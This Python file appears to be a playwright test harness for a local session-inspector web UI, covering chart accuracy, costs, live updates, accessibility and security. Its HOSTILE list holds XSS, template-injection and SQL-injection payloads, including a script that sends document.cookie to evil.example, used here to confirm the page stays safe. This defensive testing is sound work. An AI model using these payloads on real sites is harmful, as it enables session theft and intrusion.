"""The inspector in a real browser: its server as a child process, Chromium, and playwright to drive it.

Neither is among the project's requirements: `pip install playwright`, and Chromium from the system, at
/usr/bin/chromium or where SEVENFOLD_CHROMIUM says.
"""

from __future__ import annotations

import hashlib
import json
import os
import random
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from contextlib import contextmanager
from importlib.util import find_spec
from pathlib import Path
from typing import Any

from msgspec import Struct

from sevenfold.archive.audit import audit
from sevenfold.archive.profile.files import profile_file
from sevenfold.archive.transcript import ArchivedSession
from sevenfold.clock import SystemClock
from sevenfold.lab.simulator.brains import EchoBrain
from sevenfold.lab.simulator.provider import Simulator
from sevenfold.lab.simulator.server import serve
from sevenfold.memory.entry import new_entry
from sevenfold.memory.memory import Memory
from sevenfold.profiles import find
from sevenfold.providers.anthropic import AnthropicClient
from sevenfold.session.session import Session
from sevenfold.stores.folder import FileFolder

CHROMIUM = os.environ.get("SEVENFOLD_CHROMIUM", "/usr/bin/chromium")
SWITCHES = (
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--no-first-run",
    "--disable-component-update",
    "--disable-sync",
)
SECRET = "sk-ant-api03-" + "aB3dE5fG7h" * 9 + "-xYzAbCdA"  # made up
HOSTILE = (
    "__proto__",
    "constructor",
    "${alert(6)} #{alert(7)} <%= alert(8) %> {{7*7}} [[alert(9)]]",
    "nul \0 and \x08\x1b[2J\x9b31m",
    "\u2066\u2067\u202a\u2069 abc \u200f\ufeff\u2028\u2029",
    "'; DROP TABLE sessions; --",
    "x" * 300_000,
    "\ud800 alone",
    "data:text/html,<script>alert(10)</script>",
    "<script>fetch('http://evil.example/'+document.cookie)</script>",
    "<img src=http://evil.example/x onerror=alert(1)>",
    "<svg/onload=alert(2)>",
    "javascript:alert(3)",
    "\u202egnp.exe\x1b]8;;http://evil.example\x07link",
    '"><iframe srcdoc="<script>alert(4)</script>">',
    "{{constructor.constructor('alert(5)')()}}",
)
ALL_READ = """async () => {
  const headers = { 'X-Sevenfold-Token': localStorage.getItem('sevenfold-token') };
  const list = await (await fetch('/api/sessions', { headers })).json();
  return list.reading === 0 && list.sessions.every((session) => session.known);
}"""
TAGS = frozenset(
    {
        *("a", "article", "b", "body", "button", "canvas", "details", "div", "form", "h1"),
        *("h2", "h3", "head", "header", "html", "input", "li", "link", "main", "meta"),
        *("nav", "option", "p", "path", "pre", "rect", "script", "section", "select", "small"),
        *("span", "summary", "svg", "table", "tbody", "td", "th", "thead", "title", "tr", "ul"),
    }
)
FIND = """async (number) => {
  const button = document.querySelectorAll("button.find")[number];
  button.click();
  const hits = document.querySelector("section[aria-label='What left the context'] [role=status]");
  const busy = () => !hits.textContent || hits.textContent.startsWith("Searching");
  while (busy()) await new Promise((done) => setTimeout(done, 5));
  const { record } = button.closest(".fact").dataset;
  return [...hits.querySelectorAll(".hit")].some((hit) => hit.dataset.record === record);
}"""
"""Click beside a fact, wait for what is found, and say whether the fact's record is among it."""
WIDTHS = (390, 768, 1280, 1600)
LAST_DRAWN = "n => document.querySelector('#context-chart')?.uplot?.data[0].at(-1) >= n"
AGENT = """
import pathlib, random, sys, time
from sevenfold.providers.anthropic import AnthropicClient
from sevenfold.session.session import Session
url, file = sys.argv[1], pathlib.Path(sys.argv[2])
client = AnthropicClient(api_key="simulated-key", base_url=url, max_retries=0)
with Session.open("agent", model="claude-opus-4-6", file=file, folder=file.parent, client=client) as session:
    while True:
        session.user("What is next? " * 20)
        session.complete()
        time.sleep(random.uniform(0.05, 0.6))
"""
CONTRAST = """() => {
  const parse = (text) => { const m = text.match(/[\\d.]+/g).map(Number); return m.length < 4 || m[3] > 0 ? m : null; };
  const linear = (c) => (c <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4);
  const light = (rgb) => rgb.slice(0, 3).map((c) => linear(c / 255))
    .reduce((sum, c, i) => sum + c * [0.2126, 0.7152, 0.0722][i], 0);
  const faults = [];
  for (const node of document.querySelectorAll("body *")) {
    const text = [...node.childNodes].some((child) => child.nodeType === 3 && child.textContent.trim());
    if (!text || !node.getClientRects().length || node.closest(".spoken, .skip")) continue;
    let behind = null;
    for (let up = node; up && !behind; up = up.parentElement) behind = parse(getComputedStyle(up).backgroundColor);
    const [a, b] = [light(parse(getComputedStyle(node).color)), light(behind ?? [255, 255, 255])];
    const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    if (ratio < 4.5) faults.push(`${node.textContent.trim().slice(0, 30)} ${ratio.toFixed(2)}`);
  }
  return faults;
}"""


def unavailable() -> str:
    """What is missing for a browser; empty if nothing is."""
    if find_spec("playwright") is None:
        return "playwright is not installed"
    return "" if Path(CHROMIUM).is_file() else f"there is no browser at {CHROMIUM}"


class Machine:
    """A home with sessions, and the inspector's server over it."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.claude = folder / "claude" / "projects" / "-work"
        self.codex = folder / "codex" / "sessions"
        self.home = folder / "home"
        self.claude.mkdir(parents=True)
        self.codex.mkdir(parents=True)
        with socket.create_server(("127.0.0.1", 0)) as listener:
            self.port = int(listener.getsockname()[1])
        self.address = ""
        self._process: subprocess.Popen[str] | None = None

    def start(self) -> None:
        """Start the server, and wait until it says where it is."""
        env = {
            **os.environ,
            "HOME": str(self.folder),
            "CLAUDE_CONFIG_DIR": str(self.claude.parent.parent),
            "CODEX_HOME": str(self.codex.parent),
            "SEVENFOLD_HOME": str(self.home),
        }
        command = [sys.executable, "-m", "sevenfold", "inspect", "--no-open", "--port", str(self.port)]
        self._process = subprocess.Popen(command, env=env, stdout=subprocess.PIPE, text=True)
        assert self._process.stdout
        for line in self._process.stdout:
            if found := re.search(r"http://\S+", line):
                self.address = found[0]
                return
        raise RuntimeError("the inspector did not start")

    def kill(self) -> None:
        """End the server at once."""
        if self._process is not None:
            self._process.kill()
            self._process.wait()
            if self._process.stdout:
                self._process.stdout.close()

    def peak_memory(self) -> float:
        """The most megabytes the server has taken so far."""
        assert self._process is not None
        status = Path(f"/proc/{self._process.pid}/status").read_text(encoding="ascii")
        return int(re.findall(r"VmHWM:\s+(\d+)", status)[0]) / 1000

    def processor_seconds(self) -> float:
        """The time of the processor that the server has taken so far; not that of processes it started."""
        assert self._process is not None
        fields = (
            Path(f"/proc/{self._process.pid}/stat").read_text(encoding="ascii").rpartition(")")[2].split()
        )
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def add(self, raw: bytes, name: str) -> Path:
        """A session of Claude Code."""
        path = self.claude / f"{name}.jsonl"
        path.write_bytes(raw)
        return path


@contextmanager
def machine() -> Iterator[Machine]:
    """A machine of its own, whose server is ended afterwards."""
    with tempfile.TemporaryDirectory() as folder:
        made = Machine(Path(folder))
        try:
            yield made
        finally:
            made.kill()


@contextmanager
def browser(**options: Any) -> Iterator[Any]:
    """A page in a browser of its own."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=list(SWITCHES))
        context = chromium.new_context(**{"viewport": {"width": 1280, "height": 900}, **options})
        try:
            yield context.new_page()
        finally:
            chromium.close()


def open_session(page: Any, served: Machine, title: str = "") -> None:
    """Open the list, wait until it is read, and go to a session."""
    page.goto(served.address)
    page.wait_for_selector("table.sessions tbody tr a")
    link = page.locator("table.sessions tbody tr a")
    (link.filter(has_text=title) if title else link).first.click()
    page.wait_for_selector("#context-chart canvas")


def listed(page: Any, served: Machine) -> list[str]:
    """Open the list, to its end; returns the addresses of all sessions."""
    page.goto(served.address)
    page.wait_for_selector("table.sessions tbody tr a")
    while page.evaluate(
        "[...document.querySelectorAll('.rest button')].map((more) => more.click()).length"
    ):
        pass
    links = "table.sessions tbody tr a"
    addresses: list[str] = page.eval_on_selector_all(links, "all => all.map((a) => a.getAttribute('href'))")
    return addresses


# -- what is drawn -------------------------------------------------------------------------------------


class DrawnSessions(Struct):
    """What was compared, and what was wrong."""

    sessions: int = 0
    requests: int = 0
    wrong: list[str] = []
    wrong_costs: list[str] = []


def raw_prompts(path: Path) -> list[int]:
    """The prompts of the main conversation by the file alone: the last report of every answer, in order."""
    prompts: dict[str, int] = {}
    for line in path.read_text(encoding="utf-8", errors="replace").splitlines():
        try:
            record = json.loads(line)
        except ValueError:
            continue
        if not isinstance(record, dict) or record.get("type") != "assistant":
            continue
        message = record.get("message") or {}
        usage = message.get("usage")
        if not usage or record.get("isSidechain") or message.get("model") == "<synthetic>":
            continue
        counted = ("input_tokens", "cache_read_input_tokens", "cache_creation_input_tokens")
        name = message.get("id") or record.get("requestId") or record["uuid"]
        prompts.setdefault(name, sum(usage.get(field) or 0 for field in counted))
    return list(prompts.values())


def raw_cost(path: Path) -> float:
    """The cost of a file by its usage and the price table alone."""
    reports: dict[str, tuple[str, dict[str, Any]]] = {}
    for line in path.read_text(encoding="utf-8", errors="replace").splitlines():
        record = json.loads(line)
        message = record.get("message") or {}
        usage = message.get("usage")
        if record.get("type") != "assistant" or not usage or message.get("model") == "<synthetic>":
            continue
        known = reports.get(message["id"])
        if known is None or usage["output_tokens"] >= known[1]["output_tokens"]:
            reports[message["id"]] = (message["model"], usage)
    cost = 0.0
    for model, usage in reports.values():
        read = usage.get("cache_read_input_tokens") or 0
        written = usage.get("cache_creation_input_tokens") or 0
        hour = (usage.get("cache_creation") or {}).get("ephemeral_1h_input_tokens") or 0
        price = find(model).price(usage["input_tokens"] + read + written)
        if price is not None:
            cost += (
                usage["input_tokens"] * price.input
                + read * price.read
                + usage["output_tokens"] * price.output
            )
            cost += (written - hour) * price.write(300) + hour * price.write(3600)
    return cost / 1e6


def drawn(corpus: Path) -> DrawnSessions:
    """Draw every session of Claude Code in a folder, and compare."""
    found = DrawnSessions()
    files = [path for path in sorted(corpus.rglob("claude/*.jsonl")) if not path.name.startswith("agent-")]
    with machine() as served, browser() as page:
        for path in files:
            shutil.copy2(path, served.claude / path.name)
        served.start()
        keys = listed(page, served)
        for address in keys:
            page.evaluate("address => { location.hash = address }", address)
            page.wait_for_function("address => location.hash === address", arg=address)
            page.wait_for_timeout(200)
            page.wait_for_selector("#context-chart canvas")
            _compare(page, files, found)
    return found


def _compare(page: Any, files: list[Path], found: DrawnSessions) -> None:
    about = page.inner_text(".about")
    (path,) = [path for path in files if path.stem in about]
    columns = page.evaluate("document.querySelector('#context-chart').uplot.data")
    billed = page.evaluate("document.querySelector('#billing-chart').uplot.data")
    raw = raw_prompts(path)
    tops = columns[1]
    found.sessions += 1
    found.requests += len(raw)
    if len(tops) != len(raw):
        found.wrong += [f"{path.stem}: {len(tops)} drawn of {len(raw)}"] * max(1, abs(len(tops) - len(raw)))
    for number, (top, bill, prompt) in enumerate(zip(tops, billed[1], raw, strict=False)):
        if abs(top - prompt) > 0.01 * prompt or bill != prompt:
            found.wrong.append(f"{path.stem} request {number + 1}: {top} and {bill}, not {prompt}")
    profile, _ = profile_file(path)
    paid = page.inner_text(".tiles .tile:first-child b")
    breaks = page.inner_text(".tiles .tile:nth-child(2) span")
    if paid != f"${raw_cost(path):,.2f}" or not breaks.startswith(f"{len(profile.cache_breaks)} "):
        found.wrong_costs.append(f"{path.stem}: {paid}, {breaks}")


def resumed(corpus: Path) -> tuple[str, str]:
    """Show two sessions and a copy of one that went on; returns the sum on the page, and that of each call once."""
    files = [path for path in sorted(corpus.rglob("claude/*.jsonl")) if not path.name.startswith("agent-")][
        :2
    ]
    more = record(0)
    with machine() as served, browser() as page:
        for path in files:
            shutil.copy2(path, served.claude / path.name)
        copy = served.add(files[0].read_bytes() + more, "resumed")
        only_more = served.folder / "more.jsonl"
        only_more.write_bytes(more)
        expected = sum(map(raw_cost, [*files, only_more]))
        assert copy.stat().st_size > files[0].stat().st_size
        served.start()
        page.goto(served.address)
        page.wait_for_selector("table.sessions tbody tr a")
        page.wait_for_function(ALL_READ, timeout=120_000, polling=500)
        page.reload()
        page.wait_for_selector("table.sessions tbody tr a")
        return page.inner_text(".tiles .tile:first-child b"), f"${expected:,.2f}"


# -- what can be found again ---------------------------------------------------------------------------


def found_again(corpus: Path) -> tuple[int, int]:
    """Look on the page for every fact that an audit calls reachable; returns how many it finds, and all."""
    files = [path for tool in ("claude", "codex") for path in sorted(corpus.rglob(f"{tool}/*.jsonl"))]
    reachable = sum(map(_reachable, files))
    found = 0
    with machine() as served, browser() as page:
        for path in files:
            shutil.copy2(path, (served.codex if path.parent.name == "codex" else served.claude) / path.name)
        served.start()
        for address in listed(page, served):
            page.evaluate("address => { location.hash = address }", address)
            page.wait_for_function("address => location.hash === address", arg=address)
            page.wait_for_timeout(200)
            page.wait_for_selector("section[aria-label='What left the context']", timeout=60_000)
            check = page.get_by_role("button", name="Check them")
            if not check.count():
                continue
            check.click()
            page.wait_for_selector(".three", state="attached", timeout=120_000)
            page.evaluate(
                "document.querySelectorAll('details.compaction').forEach((one) => { one.open = true; })"
            )
            for number in range(page.locator("button.find").count()):
                found += page.evaluate(FIND, number)
    return found, reachable


def _reachable(path: Path) -> int:
    """How many facts of a session an audit calls reachable."""
    archived = ArchivedSession(path)
    try:
        return audit(archived.log, archived.recall_index()).total.reachable
    finally:
        archived.close()


# -- exact bytes ---------------------------------------------------------------------------------------


def exact_bytes(turns: int = 60, looked_at: int = 20) -> tuple[int, int]:
    """Run a session against the simulator; returns how many bodies on the page are the ones it received, and all.

    Which requests are looked at is drawn anew each time.
    """
    same = 0
    numbers = random.SystemRandom().sample(range(1, turns + 1), looked_at)
    with machine() as served, serve(simulator := Simulator(EchoBrain())) as url:
        client = AnthropicClient(api_key="simulated-key", base_url=url, max_retries=0)
        file = served.home / "projects" / "work.0123456789abcdef" / "exact.jsonl"
        file.parent.mkdir(parents=True)
        model = "claude-opus-4-6"
        with Session.open("exact", model=model, file=file, folder=served.folder, client=client) as session:
            for number in range(turns):
                session.user(f"Question {number}: " + "why? " * 20)
                session.complete()
        client.close()
        # Clients that stream add this field when they send; it is not part of what is cached or recorded.
        asked = [request.raw for request in simulator.requests if b'"messages"' in request.raw]
        bodies = (raw.removesuffix(b',"stream":true}') + b"}" for raw in asked)
        received = [hashlib.sha256(body).hexdigest() for body in bodies]
        served.start()
        with browser() as page:
            open_session(page, served)
            address = page.evaluate("location.hash")
            for number in numbers:
                page.evaluate("address => { location.hash = address }", f"{address}/r/{number}")
                page.wait_for_function(
                    "number => document.querySelector('h1')?.textContent === `Request ${number}`",
                    arg=number,
                )
                page.get_by_role("button", name="Show the bytes").click()
                page.wait_for_selector("#body")
                text = page.evaluate("document.querySelector('#body').textContent")
                digest = hashlib.sha256(text.encode()).hexdigest()
                same += digest == received[number - 1] == page.inner_text("#sha")
    return same, looked_at


def changed_tool() -> list[str]:
    """Change the description of one tool between two requests; returns what the page does not say about it."""
    with machine() as served, serve(Simulator(EchoBrain())) as url:
        client = AnthropicClient(api_key="simulated-key", base_url=url, max_retries=0)
        file = served.home / "projects" / "work.0123456789abcdef" / "tools.jsonl"
        file.parent.mkdir(parents=True)
        names = ["read", "write", "search"]
        random.SystemRandom().shuffle(names)
        for words in ("It does what its name says. " * 60, "It does what its name says, and tells. " * 60):
            tools = [
                {"name": name, "description": words if name == names[1] else "A tool. " * 900,
                 "input_schema": {"type": "object", "properties": {}}}
                for name in names
            ]  # fmt: skip
            with Session.open(
                "tools",
                model="claude-opus-4-6",
                file=file,
                folder=served.folder,
                client=client,
                tools=tools,
            ) as session:
                for number in range(3):
                    session.user(f"Question {number}: " + "why? " * 200)
                    session.complete()
        client.close()
        served.start()
        with browser() as page:
            open_session(page, served)
            page.evaluate("location.hash += '/r/4'")
            page.wait_for_function("() => document.querySelector('h1')?.textContent === 'Request 4'")
            page.wait_for_selector("#sha")
            text = page.inner_text("main")
        wanted = (
            f"tool {names[1]} differs",
            "about $",
            "the program that opened the session",
            "changed tools",
        )
        return [words for words in wanted if words not in text]


# -- live ----------------------------------------------------------------------------------------------


class FollowedSession(Struct):
    """How a page followed a session."""

    sent: int = 0
    right: int = 0
    slowest: float = 0.0


def record(number: int) -> bytes:
    """A request and its answer, as two lines of Claude Code's."""
    read = 1000 + 100 * number
    usage = {
        "input_tokens": 10,
        "cache_read_input_tokens": read,
        "cache_creation_input_tokens": 100,
        "output_tokens": 5,
    }
    message = {
        "id": f"m{number}",
        "role": "assistant",
        "model": "claude-opus-4-5",
        "content": [{"type": "text", "text": "Done."}],
    }
    shared = {"sessionId": "live", "isSidechain": False, "cwd": "/work"}
    at = f"2026-02-03T12:{number // 60:02}:{number % 60:02}.000Z"
    asked = {"role": "user", "content": f"Question {number}?"}
    parent = f"a{number - 1}" if number else None
    lines = (
        {**shared, "type": "user", "uuid": f"u{number}", "parentUuid": parent, "timestamp": at, "message": asked},
        {**shared, "type": "assistant", "uuid": f"a{number}", "parentUuid": f"u{number}", "timestamp": at,
         "message": {**message, "usage": usage, "stop_reason": "end_turn"}},
    )  # fmt: skip
    return b"".join(json.dumps(line).encode() + b"\n" for line in lines)


def live(count: int = 20) -> FollowedSession:
    """Append to a session that is open in the browser; every fourth line is torn at first, and the server is killed."""
    followed = FollowedSession()
    chance = random.Random(7)
    with machine() as served, browser() as page:
        path = served.add(record(0), "live")
        served.start()
        open_session(page, served)
        for number in range(1, count + 1):
            raw = record(number)
            with path.open("ab") as log:
                if number % 4 == 0:
                    log.write(raw[: len(raw) - 40])
                    log.flush()
                    page.wait_for_timeout(400)
                    raw = raw[-40:]
                log.write(raw)
            if number == count // 2:
                served.kill()
                served.start()
            began = time.monotonic()
            wanted = "n => document.querySelector('#context-chart')?.uplot?.data[0].at(-1) === n"
            page.wait_for_function(wanted, arg=number + 1, polling=10, timeout=15_000)
            if number != count // 2:
                followed.slowest = max(followed.slowest, time.monotonic() - began)
            page.wait_for_timeout(chance.randrange(50, 400))
        numbers = page.evaluate("document.querySelector('#context-chart').uplot.data[0]")
        followed.sent = count + 1
        followed.right = (
            sum(number in numbers for number in range(1, count + 2))
            if len(set(numbers)) == len(numbers)
            else 0
        )
    return followed


def followed_agent(requests: int = 12) -> FollowedSession:
    """Follow a real agent with pauses that chance makes; it is killed half-way, in the middle of a line."""
    followed = FollowedSession(sent=requests)
    with machine() as served, serve(Simulator(EchoBrain())) as url, browser() as page:
        file = served.home / "projects" / "work.0123456789abcdef" / "agent.jsonl"
        file.parent.mkdir(parents=True)
        agent = _agent(url, file)
        try:
            while _answers(file) < 1:
                time.sleep(0.01)
            served.start()
            open_session(page, served)
            for number in range(2, requests + 1):
                while _answers(file) < number:
                    time.sleep(0.005)
                began = time.monotonic()
                page.wait_for_function(LAST_DRAWN, arg=number, polling=10, timeout=15_000)
                followed.slowest = max(followed.slowest, time.monotonic() - began)
                if number == requests // 2:
                    agent.kill()
                    agent.wait()
                    with file.open("ab") as log:
                        log.write(b'{"type":"assistant","uuid":"torn","mess')
                    page.wait_for_timeout(600)
                    agent = _agent(url, file)
        finally:
            agent.kill()
            agent.wait()
        numbers = page.evaluate("document.querySelector('#context-chart').uplot.data[0]")
        followed.right = sum(number in numbers for number in range(1, requests + 1))
        followed.right -= len(numbers) - len(set(numbers))
    return followed


def _agent(url: str, file: Path) -> subprocess.Popen[bytes]:
    """A process that works in a session until it is killed."""
    return subprocess.Popen([sys.executable, "-c", AGENT, url, str(file)])


def _answers(file: Path) -> int:
    """How many answers are in a log, in complete lines."""
    lines = file.read_bytes().split(b"\n")[:-1] if file.exists() else []
    return sum(b'"type":"assistant"' in line for line in lines)


# -- hostile -------------------------------------------------------------------------------------------


def hostile(files: int = 200) -> list[str]:
    """Look at sessions with hostile text in every field; returns what happened that must not."""
    incidents: list[str] = []
    chance = random.Random(11)
    with machine() as served, browser() as page:
        for number in range(files):
            served.add(_hostile_session(chance), f"h{number}")
        before = {path: path.read_bytes() for path in served.claude.iterdir()}
        served.start()
        page.on("dialog", lambda dialog: _dismissed(dialog, incidents))
        page.on("request", lambda asked: _only_here(asked.url, served, incidents))
        page.on("console", lambda said: _refused(said.text, incidents))
        keys = listed(page, served)
        incidents += [] if len(keys) == files else [f"{len(keys)} of {files} sessions are listed"]
        for address in keys:
            for place in (address, f"{address}/r/2"):
                page.evaluate("address => { location.hash = address }", place)
                page.wait_for_selector(
                    "main .about, main .crumbs, main [role=alert]", state="attached", timeout=30_000
                )
                for button in page.locator("button.what").all()[:2]:
                    button.click()
                    page.wait_for_timeout(30)
                tags = page.evaluate(
                    "[...new Set([...document.querySelectorAll('*')].map((node) => node.tagName.toLowerCase()))]"
                )
                incidents += [f"an element {tag}" for tag in set(tags) - TAGS]
                text = page.evaluate("document.documentElement.outerHTML")
                incidents += ["a secret"] if SECRET[:40] in text else []
            for fault in page.locator("main [role=alert]").all_inner_texts():
                incidents.append(f"not shown: {fault[:80]}")
        incidents += [f"{path.name} changed" for path, raw in before.items() if path.read_bytes() != raw]
    return incidents


def _dismissed(dialog: Any, incidents: list[str]) -> None:
    incidents.append(f"a dialog: {dialog.message}")
    dialog.dismiss()


def _refused(said: str, incidents: list[str]) -> None:
    if "Content Security" in said:
        incidents.append(said)


def _only_here(url: str, served: Machine, incidents: list[str]) -> None:
    if not url.startswith(f"http://127.0.0.1:{served.port}/"):
        incidents.append(f"a request to {url}")


def _hostile_session(chance: random.Random) -> bytes:
    def words() -> str:
        return f"{chance.choice(HOSTILE)} {SECRET if chance.random() < 0.3 else ''}"

    lines = []
    for raw in b"".join(record(number) for number in range(3)).splitlines():
        line = json.loads(raw)
        line |= {"cwd": words(), "gitBranch": words(), "version": words(), "title": words()}
        message = line["message"]
        if message["role"] == "user":
            message["content"] = words()
        else:
            message["model"] = words()
            call = {
                "type": "tool_use",
                "id": words(),
                "name": words(),
                "input": {"path": words(), words(): words()},
            }
            message["content"] = [{"type": "text", "text": words()}, call]
        lines.append(json.dumps(line).encode() + b"\n")
    title = {"type": "custom-title", "customTitle": words(), "sessionId": "live"}
    return b"".join([*lines, json.dumps(title).encode() + b"\n"])


# -- access --------------------------------------------------------------------------------------------


def access() -> list[str]:
    """Go from the list to the request of a cache break by keyboard alone, in both themes, also on a narrow screen."""
    faults: list[str] = []
    lines = b"".join(record(number) for number in range(8))
    broken = record(8).replace(b'"cache_read_input_tokens": 1800', b'"cache_read_input_tokens": 0').replace(
        b'"cache_creation_input_tokens": 100', b'"cache_creation_input_tokens": 9900')  # fmt: skip
    for theme in ("light", "dark"):
        for width in (1280, 390):
            with (
                machine() as served,
                browser(color_scheme=theme, viewport={"width": width, "height": 800}) as page,
            ):
                served.add(lines.replace(b"1000", b"9000") + broken, "keys")
                served.start()
                faults += [f"{theme} {width}: {fault}" for fault in _by_keyboard(page, served)]
    return faults


def every_page() -> list[str]:
    """Look at all pages, in both themes, from a phone's width to a wide screen's."""
    faults: list[str] = []
    with machine() as served, serve(Simulator(EchoBrain())) as url:
        client = AnthropicClient(api_key="simulated-key", base_url=url, max_retries=0)
        project = served.home / "projects" / "work.0123456789abcdef"
        project.mkdir(parents=True)
        with Session.open(
            "looked-at",
            model="claude-opus-4-6",
            file=project / "looked-at.jsonl",
            folder=served.folder,
            client=client,
        ) as session:
            for number in range(12):
                session.user(f"Never touch pier {number}, it is the harbour master's: " + "why? " * 40)
                session.complete()
            session.compact()
            session.user("Go on.")
            session.complete()
        client.close()
        memory = Memory(FileFolder(project / "memory"), SystemClock(), lambda: "2026-02-03")
        entry = new_entry("rounding", "feedback", "Money is rounded half up.", "Half up.\n")
        memory.write(entry, "user", "said so")
        for number in range(3):
            served.add(
                b"".join(record(part) for part in range(6)).replace(b'"m', b'"%d-m' % number), f"s{number}"
            )
        served.start()
        for theme in ("light", "dark"):
            with browser(color_scheme=theme) as page:
                for width in WIDTHS:
                    page.set_viewport_size({"width": width, "height": 900})
                    faults += [f"{theme} {width} {fault}" for fault in _all_looked_at(page, served)]
    return faults


def _all_looked_at(page: Any, served: Machine) -> list[str]:
    open_session(page, served, "Never touch")
    session = page.evaluate("location.hash")
    page.get_by_role("button", name="Check them").click()
    page.wait_for_selector(".three", state="attached", timeout=60_000)
    for button in ("Table", "Another policy"):
        page.get_by_role("button", name=button, exact=True).click()
    page.wait_for_selector("section[aria-label='What if'] canvas", timeout=60_000)
    faults = [f"session: {fault}" for fault in _looked_at(page)]
    for name, address, there in (
        ("sessions", "#/", "table.sessions tbody tr a"),
        ("request", f"{session}/r/5", "#sha"),
        ("memory", "#/memory", "article.fact"),
        ("tasks", "#/tasks", ".notice"),
    ):
        page.evaluate("address => { location.hash = address }", address)
        page.wait_for_selector(there)
        page.wait_for_timeout(200)
        faults += [f"{name}: {fault}" for fault in _looked_at(page)]
    return faults


def _by_keyboard(page: Any, served: Machine) -> list[str]:
    faults = []
    page.goto(served.address)
    page.wait_for_selector(".pill.good, .pill.bad, .pill.warn, .pill.note")
    faults += _looked_at(page)
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    page.wait_for_selector("#context-chart canvas")
    faults += _looked_at(page)
    for _ in range(40):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement?.id") == "context-chart":
            break
    else:
        faults.append("the chart is not reached")
    page.keyboard.press("End")
    spoken = page.inner_text("#spoken", timeout=2000)
    if not spoken.startswith("Request 9"):
        faults.append(f"spoken: {spoken}")
    page.keyboard.press("Enter")
    page.wait_for_function("() => document.querySelector('h1')?.textContent === 'Request 9'")
    page.wait_for_timeout(300)
    return faults + _looked_at(page)


def _looked_at(page: Any) -> list[str]:
    faults = [f"contrast of {fault}" for fault in page.evaluate(CONTRAST)]
    nameless = (
        "all => all.filter((node) => !(node.getAttribute('aria-label') || node.textContent.trim())).length"
    )
    if count := page.eval_on_selector_all("a, button, input, [role=application]", nameless):
        faults.append(f"{count} controls without a name")
    over = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
    return faults + ([f"{over} px too wide"] if over > 0 else [])
